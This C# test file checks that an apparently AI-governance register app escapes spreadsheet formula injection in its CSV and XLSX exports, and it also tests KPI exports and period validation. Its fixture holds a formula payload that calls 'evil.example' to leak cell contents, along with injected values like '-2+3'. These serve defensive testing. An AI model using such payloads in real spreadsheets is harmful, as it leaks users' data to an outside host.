using System.IO.Compression;
using System.Text;
using Attest.Core.Features.Exports;
using Attest.Core.Features.Inventory;
using Attest.Core.Features.Kpis;
using Attest.Core.Features.Risks;
using Attest.Core.Governance;
using Attest.Core.Tests.Support;
using Attest.Engine.Gates;
using MiniExcelLibs;

namespace Attest.Core.Tests.Exports;

/// <summary>The registers as CSV and XLSX over real SQLite, with a risk whose fields try spreadsheet formula injection.</summary>
public sealed class ExportTests : IAsyncLifetime
{
    private TestDatabase _db = null!;
    private const string Formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    public async ValueTask InitializeAsync()
    {
        _db = await TestDatabase.CreateAsync();
        (await _db.Get<RegisterSystem>().ExecuteAsync(Inputs.System("resume-screening"), Actors.Dana, Ct)).IsOk.ShouldBeTrue();
        var risk = await _db.Get<RecordRisk>().ExecuteAsync("resume-screening", new RiskInput
        {
            Title = Formula,
            Description = "-2+3",
            Severity = RiskSeverity.High,
            Owner = "@owner",
        }, Actors.Dana, Ct);
        risk.IsOk.ShouldBeTrue(risk.Message);
    }

    public async ValueTask DisposeAsync() => await _db.DisposeAsync();

    private async Task<ExportTable> Export(string name)
    {
        var result = await _db.Get<GetExport>().ExecuteAsync(name, ReadScope.Everything, Ct);
        result.IsOk.ShouldBeTrue(result.Message);
        return result.Value!;
    }

    [Fact]
    public async Task The_risk_register_as_csv_neutralises_formulas()
    {
        var csv = Encoding.UTF8.GetString((await Export("risk-register")).Write(ExportFormat.Csv));

        var lines = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        lines[0].ShouldStartWith("risk,system,system_name,tier,title,description,severity,likelihood,treatment,owner");
        lines.Length.ShouldBe(2);
        lines[1].ShouldContain("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\"");
        lines[1].ShouldContain(",'-2+3,high,,open,'@owner,");
    }

    [Fact]
    public async Task The_risk_register_as_xlsx_has_typed_cells_and_no_formula()
    {
        var xlsx = (await Export("risk-register")).Write(ExportFormat.Xlsx);

        using (var zip = new ZipArchive(new MemoryStream(xlsx)))
        {
            var sheet = zip.Entries.Single(e => e.FullName.StartsWith("xl/worksheets/sheet", StringComparison.Ordinal));
            using var reader = new StreamReader(sheet.Open());
            var xml = await reader.ReadToEndAsync(Ct);
            xml.ShouldNotContain("<f>");
            xml.ShouldNotContain("<x:f>");
        }
        var rows = MiniExcel.Query(new MemoryStream(xlsx), useHeaderRow: true).Cast<IDictionary<string, object>>().ToList();
        rows.Count.ShouldBe(1);
        rows[0]["title"].ShouldBe("'" + Formula);
        rows[0]["description"].ShouldBe("'-2+3");
        rows[0]["owner"].ShouldBe("'@owner");
        rows[0]["severity"].ShouldBe("high");
        rows[0]["system"].ShouldBe("resume-screening");
    }

    [Fact]
    public async Task The_kpi_export_has_every_kpi_with_numbers_as_numbers()
    {
        var table = await Export("kpis");
        var catalog = _db.Get<KpiCatalog>();
        table.Rows.Select(r => (string)r[0]!).ShouldBe(catalog.Definitions.Select(d => d.Id));

        var rows = MiniExcel.Query(new MemoryStream(table.Write(ExportFormat.Xlsx)), useHeaderRow: true).Cast<IDictionary<string, object>>().ToList();
        var coverage = rows.Single(r => (string)r["kpi"] == "rai_coverage");
        coverage["status"].ShouldBe("not_met");
        Convert.ToDouble(coverage["value"], System.Globalization.CultureInfo.InvariantCulture).ShouldBe(0.0, "an unclassified system: 0 of 1");
        Convert.ToDouble(coverage["denominator"], System.Globalization.CultureInfo.InvariantCulture).ShouldBe(1.0);
    }

    [Fact]
    public async Task Empty_registers_still_have_their_header_and_an_unknown_export_is_not_found()
    {
        var waivers = await Export("waiver-register");
        Encoding.UTF8.GetString(waivers.Write(ExportFormat.Csv)).ShouldStartWith("waiver,system,system_name,control,");
        MiniExcel.GetColumns(new MemoryStream(waivers.Write(ExportFormat.Xlsx)), useHeaderRow: true).ShouldContain("expires_on");
        var matrix = await Export("compliance-matrix");
        matrix.Columns.ShouldBe(Attest.Core.Features.Compliance.GetComplianceMatrix.CsvHeader.Split(','));

        (await _db.Get<GetExport>().ExecuteAsync("salaries", ReadScope.Everything, Ct)).Kind.ShouldBe(Attest.Core.Common.ResultKind.NotFound);
        GetExport.ParseFormat("XLSX").ShouldBe(ExportFormat.Xlsx);
        GetExport.ParseFormat("ods").ShouldBeNull();
    }

    [Fact]
    public async Task The_kpi_history_is_one_row_per_kpi_per_day_of_the_period_and_refuses_a_bad_period()
    {
        await using (var db = _db.NewContext())
        {
            foreach (var (kpi, day, value) in new[] { ("rai_coverage", 10, 50.0), ("incident_rate", 10, 0.25), ("rai_coverage", 11, 75.0), ("rai_coverage", 12, 100.0) })
                db.KpiSnapshots.Add(new Data.KpiSnapshot { KpiId = kpi, Day = new DateOnly(2026, 2, day), Segment = "", Value = value, Numerator = value, Denominator = 100, Status = Engine.Kpis.KpiStatus.NotMet });
            // Another segment's row is not in the portfolio history.
            db.KpiSnapshots.Add(new Data.KpiSnapshot { KpiId = "rai_coverage", Day = new DateOnly(2026, 2, 11), Segment = "tier:high", Value = 1, Numerator = 1, Denominator = 1, Status = Engine.Kpis.KpiStatus.Met });
            await db.SaveChangesAsync(Ct);
        }
        var result = await _db.Get<GetExport>().ExecuteAsync("kpi-history", new ExportPeriod("2026-02-10", "2026-02-11"), ReadScope.Everything, Ct);
        result.IsOk.ShouldBeTrue(result.Message);
        var lines = Encoding.UTF8.GetString(result.Value!.Write(ExportFormat.Csv)).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        lines[0].ShouldBe("day,kpi,name,value,unit,target,direction,status,numerator,denominator,p90");
        lines.Skip(1).Select(l => string.Join(',', l.Split(',').Take(2).Append(l.Split(',')[3]))).ShouldBe(
            ["2026-02-10,rai_coverage,50", "2026-02-10,incident_rate,0.25", "2026-02-11,rai_coverage,75"], "by day, then in the catalog's order; the 12th is outside");
        using (var xlsx = new MemoryStream(result.Value.Write(ExportFormat.Xlsx)))
            xlsx.Query(useHeaderRow: true).Count().ShouldBe(3);

        var bad = await _db.Get<GetExport>().ExecuteAsync("kpi-history", new ExportPeriod("2026-02-12", "2026-02-10"), ReadScope.Everything, Ct);
        (bad.Kind, bad.Errors.Keys.Single()).ShouldBe((Attest.Core.Common.ResultKind.Invalid, "from"));
        var future = await _db.Get<GetExport>().ExecuteAsync("kpi-history", new ExportPeriod(null, "2099-01-01"), ReadScope.Everything, Ct);
        future.Errors.Keys.ShouldBe(["to"]);
        var scoped = await _db.Get<GetExport>().ExecuteAsync("kpi-history", new ExportPeriod(), ReadScope.Only("sys_x"), Ct);
        scoped.Kind.ShouldBe(Attest.Core.Common.ResultKind.Forbidden, "the history is of the whole portfolio");
    }
}
